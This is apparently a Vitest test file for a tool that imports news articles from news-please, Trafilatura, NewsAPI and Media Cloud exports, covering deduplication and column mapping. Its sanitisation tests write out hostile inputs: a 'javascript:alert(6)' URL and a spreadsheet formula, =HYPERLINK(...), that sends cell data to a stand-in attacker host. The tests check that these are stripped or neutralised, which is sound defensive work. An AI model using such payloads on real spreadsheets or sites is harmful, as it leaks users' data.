// @vitest-environment jsdom
import { describe, expect, it, vi } from 'vitest';
import { readImportFiles, type ImportedArticle, type ReportEntry } from '../../../src/store/import';
import { toCsv } from '../../../src/ui/shared/export';
import { fixtures, textFile } from './helpers';

const rejected = (code: ReportEntry['code'], file: string, reason: string, row?: number): ReportEntry =>
  row === undefined ? { level: 'rejected', code, file, reason } : { level: 'rejected', code, file, row, reason };
const warning = (code: ReportEntry['code'], file: string, reason: string, row: number): ReportEntry => ({ level: 'warning', code, file, row, reason });
const meta = (m: Partial<ImportedArticle['meta']>): ImportedArticle['meta'] => ({ headline: '', outlet: '', date: 'unknown', url: '', author: '', ...m });

describe('exports of the tools news researchers use', () => {
  it('news-please CSV: maintext, title, date_publish, source_domain, url, authors (a Python list in a cell)', () => {
    const { articles, report } = readImportFiles(fixtures('news-please.csv'));
    expect(report).toEqual([rejected('no-text', 'news-please.csv', 'no text (field "maintext" is missing or empty)', 4)]);
    expect(articles).toEqual([
      {
        id: 'news-please-2',
        source: 'news-please.csv row 2',
        text:
          'Water rates to rise by six per cent\n\nThe regional water company will raise its rates by six per cent in April, it said on Saturday.\nIt blamed the cost of repairing leaks found after the winter freeze.',
        meta: meta({
          headline: 'Water rates to rise by six per cent',
          outlet: 'coastline-daily.example.org',
          date: '2025-02-01',
          url: 'https://coastline-daily.example.org/water-rates',
          author: 'Mira Solberg',
        }),
      },
      {
        id: 'news-please-3',
        source: 'news-please.csv row 3',
        text: 'School roof to be replaced in the summer\n\nThe primary school on Mill Lane will get a new roof over the summer holidays, the education office said.',
        meta: meta({
          headline: 'School roof to be replaced in the summer',
          outlet: 'coastline-daily.example.org',
          url: 'https://coastline-daily.example.org/school-roof',
          author: 'Mira Solberg, Ade Okonjo',
        }),
      },
    ]);
  });

  it('news-please JSON Lines: bad lines, empty text, bad values and markup, each on its own line number', () => {
    const { articles, report } = readImportFiles(fixtures('news-please.jsonl'));
    expect(report).toEqual([
      rejected('unreadable', 'news-please.jsonl', expect.stringMatching(/^not valid JSON \(.+\)$/) as unknown as string, 2),
      rejected('no-text', 'news-please.jsonl', 'no text (field "maintext" is missing or empty)', 3),
      rejected('unreadable', 'news-please.jsonl', 'not a JSON object', 5),
      rejected('duplicate-text', 'news-please.jsonl', 'same text as news-please.jsonl row 1', 6),
      warning('bad-url', 'news-please.jsonl', 'url "ftp://quayside-news.example.org/fish" is not an http(s) address; left empty', 7),
      warning('unknown-date', 'news-please.jsonl', 'date "1714000000" could not be read; kept as "unknown"', 7),
    ]);
    expect(articles.map((a) => [a.id, a.meta.date])).toEqual([
      ['news-please-1', '2025-01-13'],
      ['news-please-7', 'unknown'],
    ]);
    // Title, text and author held script, SVG, handlers and a javascript: link: only their words are left.
    expect(articles[1]).toEqual({
      id: 'news-please-7',
      source: 'news-please.jsonl row 7',
      text: 'Fish market moves\n\nThe fish market moves to the east quay in May.\n\nStallholders welcomed the move.',
      meta: meta({ headline: 'Fish market moves', outlet: 'quayside-news.example.org', author: 'Jonah Reyes' }),
    });
  });

  it('Trafilatura CSV and JSON: text, sitename or source-hostname, source as the address', () => {
    const { articles, report } = readImportFiles(fixtures('trafilatura.csv', 'trafilatura.json'));
    expect(report).toEqual([warning('unknown-date', 'trafilatura.csv', 'date "20th of Septembre" could not be read; kept as "unknown"', 3)]);
    expect(articles.map((a) => [a.id, a.meta])).toEqual([
      [
        'trafilatura-2',
        meta({ headline: 'Night buses return to the city centre', outlet: 'Metro Post', date: '2024-09-20', url: 'https://metro-post.example.net/night-buses', author: 'Lena Park' }),
      ],
      ['trafilatura-3', meta({ headline: 'Market hall reopens', outlet: 'Metro Post', url: 'https://metro-post.example.net/market-hall', author: 'Lena Park' })],
      [
        'trafilatura-1',
        meta({ headline: 'Tram extension opens to the airport', outlet: 'Transit Times', date: '2025-08-30', url: 'https://transit-times.example.com/tram-airport', author: 'Felix Amundsen' }),
      ],
    ]);
  });

  it('NewsAPI CSV and JSON response: content or description, source.name, the "[+N chars]" marker dropped', () => {
    const { articles, report } = readImportFiles(fixtures('newsapi.csv', 'newsapi-response.json'));
    expect(report).toEqual([]);
    expect(articles.map((a) => [a.id, a.text, a.meta.outlet, a.meta.date, a.meta.author])).toEqual([
      [
        'newsapi-2',
        'Wind farm approved for the ridge\n\nThe planning board approved twelve turbines on the ridge above the town on Thursday, after a vote of five to two. Objectors said they',
        'Valley Standard',
        '2025-05-09',
        'Owen Petrakis',
      ],
      ['newsapi-3', "Ferry strike called off\n\nThe ferry crews' strike planned for Monday has been called off.", 'Valley Standard', '2025-05-10', ''],
      [
        'newsapi-response-1',
        'Village shop saved by its customers\n\nTwo hundred villagers have bought shares in the village shop to keep it open after its owners retired, raising £60,000 in a month.',
        'Hillside Observer',
        '2025-07-21',
        'Greta Nakamura',
      ],
      [
        'newsapi-response-2',
        'Post office to move into the shop\n\nThe post office counter will move into the village shop in the autumn.',
        'Hillside Observer',
        '2025-07-22',
        '',
      ],
    ]);
  });

  it('Media Cloud with text: media_name, publish_date; an address seen before is a duplicate, even with a fragment', () => {
    const { articles, report } = readImportFiles(fixtures('news-please.csv', 'mediacloud.csv', 'mediacloud-no-text.csv'));
    expect(report).toEqual([
      rejected('no-text', 'news-please.csv', 'no text (field "maintext" is missing or empty)', 4),
      rejected('duplicate-url', 'mediacloud.csv', 'same address as news-please.csv row 2 (https://coastline-daily.example.org/water-rates#comments)', 3),
      rejected('no-text', 'mediacloud-no-text.csv', 'looks like a Media Cloud export, but no row has a text field ("text")'),
    ]);
    expect(articles.map((a) => a.id)).toEqual(['news-please-2', 'news-please-3', 'mediacloud-2']);
    expect(articles[2]!.meta).toEqual(
      meta({ headline: 'Flood defences finished a year late', outlet: 'Northfield Gazette', date: '2024-12-01', url: 'https://northfield-gazette.example.com/flood-defences' }),
    );
  });

  it('reports a file that is not valid JSON, and one with no rows', () => {
    const { articles, report } = readImportFiles([...fixtures('broken.json'), textFile('header-only.csv', 'title,text\r\n')]);
    expect(articles).toEqual([]);
    expect(report).toEqual([
      rejected('unreadable', 'broken.json', expect.stringMatching(/^not valid JSON \(.+\)$/) as unknown as string),
      rejected('empty', 'header-only.csv', 'no rows'),
    ]);
  });
});

describe('any other table: the column-mapping step', () => {
  it('imports nothing unasked, and offers the columns, a preview and a suggested mapping', () => {
    const { articles, report, mappings } = readImportFiles(fixtures('unknown-shape.csv'));
    expect(articles).toEqual([]);
    expect(report).toEqual([
      rejected('needs-mapping', 'unknown-shape.csv', 'columns not recognised (Heading, Body copy, Paper, When, Link, Writer); choose which column holds the text'),
    ]);
    expect(mappings).toEqual([
      {
        file: 'unknown-shape.csv',
        columns: ['Heading', 'Body copy', 'Paper', 'When', 'Link', 'Writer'],
        preview: [
          [
            'Bakery wins regional prize',
            'A family bakery on the high street won the regional bread prize for its rye loaf, the judges said.',
            'Eastwick Echo',
            '2025-03-03',
            'https://eastwick-echo.example.com/bakery',
            'Sam Idris',
          ],
          [
            'Cycle lane plan withdrawn',
            'The council withdrew its plan for a cycle lane on the bridge road after objections from bus drivers.',
            'Eastwick Echo',
            '03/04/2025',
            'https://eastwick-echo.example.com/cycle-lane',
            '',
          ],
        ],
        // "Body copy" and "Paper" are not names the guess knows: the reader chooses them.
        suggestion: { headline: 'Heading', url: 'Link', author: 'Writer' },
      },
    ]);
  });

  it('reads the table with the mapping the reader chose; a date in a form it cannot read is reported', () => {
    const mapping = { text: 'Body copy', headline: 'Heading', outlet: 'Paper', date: 'When', url: 'Link', author: 'Writer' };
    const { articles, report, mappings } = readImportFiles(fixtures('unknown-shape.csv'), { mappings: { 'unknown-shape.csv': mapping } });
    expect(mappings).toEqual([]);
    // "03/04/2025" is March or April depending on the country: not guessed.
    expect(report).toEqual([warning('unknown-date', 'unknown-shape.csv', 'date "03/04/2025" could not be read; kept as "unknown"', 3)]);
    expect(articles.map((a) => [a.id, a.meta])).toEqual([
      [
        'unknown-shape-2',
        meta({ headline: 'Bakery wins regional prize', outlet: 'Eastwick Echo', date: '2025-03-03', url: 'https://eastwick-echo.example.com/bakery', author: 'Sam Idris' }),
      ],
      ['unknown-shape-3', meta({ headline: 'Cycle lane plan withdrawn', outlet: 'Eastwick Echo', url: 'https://eastwick-echo.example.com/cycle-lane' })],
    ]);
  });

  it('rejects a mapping whose text column the file does not have', () => {
    const { report } = readImportFiles(fixtures('unknown-shape.csv'), { mappings: { 'unknown-shape.csv': { text: 'Story' } } });
    expect(report).toEqual([rejected('no-text', 'unknown-shape.csv', 'no row has a text field ("Story")')]);
  });

  it('keeps the outlet from the address when the mapping names none, and every cell of repeated column names', () => {
    const csv = 'text,text,link\r\n"First body, long enough.","Second body.",https://www.paper.example.org/a\r\n';
    const { articles } = readImportFiles([textFile('twins.csv', csv)], { mappings: { 'twins.csv': { text: 'text (2)', url: 'link' } } });
    expect(articles).toEqual([
      { id: 'twins-2', source: 'twins.csv row 2', text: 'Second body.', meta: meta({ outlet: 'paper.example.org', url: 'https://www.paper.example.org/a' }) },
    ]);
  });
});

describe('hostile cells', () => {
  it('keep only their words: script, SVG, frames, images, handlers and javascript: links are gone from every field', () => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
    const { articles, report } = readImportFiles(fixtures('hostile.csv'));
    expect(alert).not.toHaveBeenCalled();
    alert.mockRestore();
    expect(report).toEqual([
      warning('bad-url', 'hostile.csv', 'url "javascript:alert(6)" is not an http(s) address; left empty', 2),
      rejected('no-text', 'hostile.csv', 'no text (field "text" holds no text once markup is removed)', 3),
    ]);
    expect(articles).toEqual([
      {
        id: 'hostile-2',
        source: 'hostile.csv row 2',
        text: 'Pool closes for repairs\n\nThe town pool closes for six weeks of repairs.\n\nSwimmers can use the school pool.',
        meta: meta({ headline: 'Pool closes for repairs', outlet: 'Riverbank Record', date: '2025-06-01', author: 'Ola Berg' }),
      },
    ]);
  });
});

describe('formula cells', () => {
  it('are imported as the text they are (nothing evaluates them); the CSV export neutralises them', () => {
    const { articles, report } = readImportFiles(fixtures('formula-cells.csv'));
    expect(report).toEqual([]);
    expect(articles.map((a) => [a.meta.headline, a.meta.author, a.text.split('\n\n')[1]])).toEqual([
      [
        '=HYPERLINK("https://attacker.example.net/?leak="&A1;"Click here")',
        '@Reporter',
        '+1 council seat changed hands in the by-election on Thursday, the returning officer said.',
      ],
      ['-Rates frozen', 'tab-led author', '=2+3 is not a sum here: the council froze its rates for the second year running, its leader said.'],
    ]);
  });

  it('leave the CSV export with every one of them neutralised', () => {
    const { articles } = readImportFiles(fixtures('formula-cells.csv'));
    const csv = toCsv({ title: 'Sources', columns: ['Headline', 'Author', 'Text'], rows: articles.map((a) => [a.meta.headline, a.meta.author, a.text]) });
    expect(csv.split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""https://attacker.example.net/?leak=""&A1;""Click here"")","'@Reporter","'=HYPERLINK(""https://attacker.example.net/?leak=""&A1;""Click here"")\n\n+1 council seat changed hands in the by-election on Thursday, the returning officer said."`,
    );
    expect(csv.split('\r\n')[2]).toMatch(/^"'-Rates frozen",tab-led author,"'-Rates frozen\n\n=2\+3 is not a sum here/);
  });
});
